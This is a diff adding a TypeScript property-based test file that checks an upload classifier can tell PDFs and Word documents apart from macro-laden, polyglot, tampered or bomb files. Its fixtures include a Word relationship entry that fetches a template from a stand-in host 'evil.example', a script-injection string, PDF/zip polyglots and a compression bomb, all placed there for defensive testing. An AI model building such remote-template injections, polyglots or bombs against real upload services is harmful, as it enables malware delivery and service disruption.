@@ -1,0 +1,118 @@
+import * as fc from 'fast-check'
+import { describe, expect, it } from 'vitest'
+
+import { inflate } from '#server/use-cases/uploads/take-upload.ts'
+import { aDocx, aPdf, aZip } from '#tests/support/documents.ts'
+
+import { documentKind } from './document-kind.ts'
+
+const kindOf = (bytes: Uint8Array) => documentKind(bytes, inflate)
+
+const MACRO_TYPE = 'application/vnd.ms-word.document.macroEnabled.main+xml'
+const SHEET_TYPE = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml'
+const FETCHED =
+  '<Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>'
+
+describe('what a file is', () => {
+  it('is a PDF by its beginning and its end, whatever stands between', () => {
+    expect(kindOf(aPdf())).toBe('pdf')
+    expect(kindOf(aPdf('PK\u0003\u0004 <script>'))).toBe('pdf')
+    expect(kindOf(Buffer.concat([aPdf(), Buffer.from('\r\n\n')]))).toBe('pdf')
+  })
+
+  it('is a Word document by its parts', () => {
+    expect(kindOf(aDocx())).toBe('docx')
+    expect(kindOf(aDocx({ 'word/media/photo.png': 'x' }))).toBe('docx')
+  })
+
+  it.each([
+    ['a page of HTML', '<!doctype html><title>CV</title>'],
+    ['a picture', '\u0089PNG\r\n\u001A\n'],
+    ['a program', 'MZ\u0090\u0000'],
+    ['an old Word file', '\u00D0\u00CF\u0011\u00E0\u00A1\u00B1\u001A\u00E1'],
+    ['text', 'Ana Núñez, technician'],
+    ['a PDF behind other bytes', `GIF89a${aPdf().toString('latin1')}`],
+  ])('is nothing for %s', (_name, text) => {
+    expect(kindOf(Buffer.from(text, 'latin1'))).toBe('other')
+  })
+
+  it.each([
+    ['a zip of other files', aZip({ 'a.txt': 'a' })],
+    ['a spreadsheet', aDocx({}, SHEET_TYPE)],
+    ['a zip without a main part', aZip({ '[Content_Types].xml': 'x', 'word/other.xml': '<x/>' })],
+  ])('is nothing for %s', (_name, bytes) => {
+    expect(kindOf(bytes)).toBe('other')
+  })
+
+  it.each([
+    ['by its type', aDocx({}, MACRO_TYPE)],
+    ['by its part', aDocx({ 'word/vbaProject.bin': 'x' })],
+    ['by a part elsewhere', aDocx({ 'evil/VBAPROJECT.bin': 'x' })],
+    ['by what it runs', aDocx({ 'word/activeX/activeX1.xml': '<x/>' })],
+    ['by a template from elsewhere', aDocx({ 'word/_rels/settings.xml.rels': FETCHED })],
+  ])('holds macros %s', (_name, bytes) => {
+    expect(kindOf(bytes)).toBe('macros')
+  })
+
+  it('is nothing where it is two things at once', () => {
+    const [pdf, docx] = [aPdf(), aDocx()]
+    expect(kindOf(Buffer.concat([pdf, docx]))).toBe('broken')
+    expect(kindOf(Buffer.concat([docx, pdf]))).toBe('broken')
+    expect(kindOf(Buffer.concat([pdf, Buffer.from('<script>alert(1)</script>')]))).toBe('broken')
+    // An archive whose comment is the end of a PDF.
+    const comment = Buffer.from('\nstartxref\n0\n%%EOF')
+    const archive = Buffer.concat([aZip({ 'a.js': 'x' }), comment])
+    archive.writeUInt16LE(comment.length, archive.length - comment.length - 2)
+    expect(kindOf(Buffer.concat([Buffer.from('%PDF-1.4\n'), archive]))).toBe('broken')
+  })
+
+  it('is nothing where the archive and its directory name a file differently', () => {
+    const bytes = aDocx({ 'word/x.xml': '<x/>' })
+    const at = bytes.indexOf('word/x.xml')
+    bytes.write('vbaProject', at)
+    expect(kindOf(bytes)).toBe('broken')
+  })
+
+  it('is nothing where its text can not be unpacked, or is a bomb', () => {
+    const bomb = aDocx({ 'word/document.xml': `<x>${' '.repeat(20 * 1024 * 1024)}</x>` })
+    expect(bomb.length).toBeLessThan(100_000)
+    expect(kindOf(bomb)).toBe('broken')
+  })
+})
+
+describe('whatever the bytes are', () => {
+  it('never fails, and takes no random bytes', () => {
+    fc.assert(
+      fc.property(
+        fc.constantFrom('', '%PDF-', '%PDF-1.7', 'PK', 'PK\u0003\u0004', 'PK\u0005\u0006'),
+        fc.uint8Array({ maxLength: 400 }),
+        (begin, rest) => {
+          const kind = kindOf(Buffer.concat([Buffer.from(begin), rest]))
+          expect(['other', 'broken']).toContain(kind)
+        },
+      ),
+    )
+  })
+
+  it('takes no document that was cut off', () => {
+    fc.assert(
+      fc.property(fc.constantFrom(aPdf().subarray(0, -1), aDocx()), fc.nat(), (whole, at) => {
+        const kind = kindOf(whole.subarray(0, at % whole.length))
+        // The end of a PDF may come before its last line end.
+        expect(['other', 'broken']).toContain(kind)
+      }),
+    )
+  })
+
+  it('never takes a document with macros, wherever a byte of it is changed', () => {
+    const macros = aDocx({ 'word/vbaProject.bin': 'x' }, MACRO_TYPE)
+    fc.assert(
+      fc.property(fc.nat(macros.length - 1), fc.integer({ min: 0, max: 255 }), (at, byte) => {
+        const changed = Buffer.from(macros)
+        changed[at] = byte
+        expect(kindOf(changed)).not.toBe('docx')
+      }),
+      { numRuns: 300 },
+    )
+  })
+})
